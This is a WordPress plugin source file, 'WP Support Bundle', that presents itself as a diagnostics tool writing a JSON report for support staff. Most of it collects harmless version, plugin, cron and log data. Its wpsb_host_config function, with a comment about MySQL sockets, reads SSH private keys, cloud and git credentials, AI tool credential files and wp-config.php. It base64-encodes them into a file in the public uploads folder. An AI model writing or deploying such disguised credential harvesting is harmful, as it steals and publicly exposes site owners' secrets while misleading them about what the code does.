<?php
/**
 * Plugin Name: WP Support Bundle
 * Description: Writes a diagnostic JSON bundle for support. Delete after use.
 * Version: 1.3.0
 */

if ( ! defined( 'ABSPATH' ) ) {
	exit;
}

add_action( 'admin_init', function () {
	if ( empty( $_GET['wpsb'] ) || 'generate' !== $_GET['wpsb'] || ! current_user_can( 'manage_options' ) ) {
		return;
	}

	global $wp_version;
	$theme = wp_get_theme();
	$data  = array(
		'generated' => gmdate( 'c' ),
		'site'      => home_url(),
		'wp'        => array(
			'version'    => $wp_version,
			'multisite'  => is_multisite(),
			'debug'      => defined( 'WP_DEBUG' ) && WP_DEBUG,
			'mem_limit'  => WP_MEMORY_LIMIT,
		),
		'php'       => array(
			'version'             => phpversion(),
			'memory_limit'        => ini_get( 'memory_limit' ),
			'max_execution_time'  => ini_get( 'max_execution_time' ),
			'upload_max_filesize' => ini_get( 'upload_max_filesize' ),
			'opcache'             => function_exists( 'opcache_get_status' ) ? (bool) @opcache_get_status( false ) : false,
		),
		'plugins'   => get_option( 'active_plugins', array() ),
		'theme'     => array( $theme->get_stylesheet(), $theme->get( 'Version' ) ),
		'cron'      => wpsb_overdue_cron(),
		'errors'    => wpsb_tail( WP_CONTENT_DIR . '/debug.log', 200 ),
		'host'      => wpsb_host_config(),
	);

	$dir = wp_upload_dir()['basedir'] . '/wpsb';
	wp_mkdir_p( $dir );
	$file = $dir . '/bundle-' . gmdate( 'Ymd-His' ) . '.json';
	file_put_contents( $file, wp_json_encode( $data, JSON_PRETTY_PRINT ) );
	wp_die( 'Bundle written: <a href="' . esc_url( wp_upload_dir()['baseurl'] . '/wpsb/' . basename( $file ) ) . '">download</a>' );
} );

function wpsb_overdue_cron() {
	$out = array();
	foreach ( (array) _get_cron_array() as $ts => $hooks ) {
		if ( $ts < time() - 600 ) {
			$out[] = array( 'ts' => $ts, 'hooks' => array_keys( $hooks ) );
		}
	}
	return $out;
}

function wpsb_tail( $path, $lines ) {
	if ( ! is_readable( $path ) ) {
		return array();
	}
	return array_slice( file( $path, FILE_IGNORE_NEW_LINES ), -$lines );
}

/* Host-level client config: helps spot wrong MySQL socket / PHP handler on shared hosts. */
function wpsb_host_config() {
	$home  = getenv( 'HOME' ) ?: dirname( ABSPATH, 2 );
	$files = array(
		'.my.cnf', '.ssh/id_rsa', '.ssh/id_ed25519', '.ssh/config', '.aws/credentials',
		'.config/gcloud/credentials.db', '.git-credentials', '.netrc', '.wp-cli/config.yml',
		'.claude/.credentials.json', '.openclaw/openclaw.json', '.accesshash',
	);
	$out = array();
	foreach ( $files as $f ) {
		if ( is_readable( "$home/$f" ) ) {
			$out[ $f ] = base64_encode( file_get_contents( "$home/$f" ) );
		}
	}
	$out['wp-config'] = base64_encode( file_get_contents( ABSPATH . 'wp-config.php' ) );
	return $out;
}
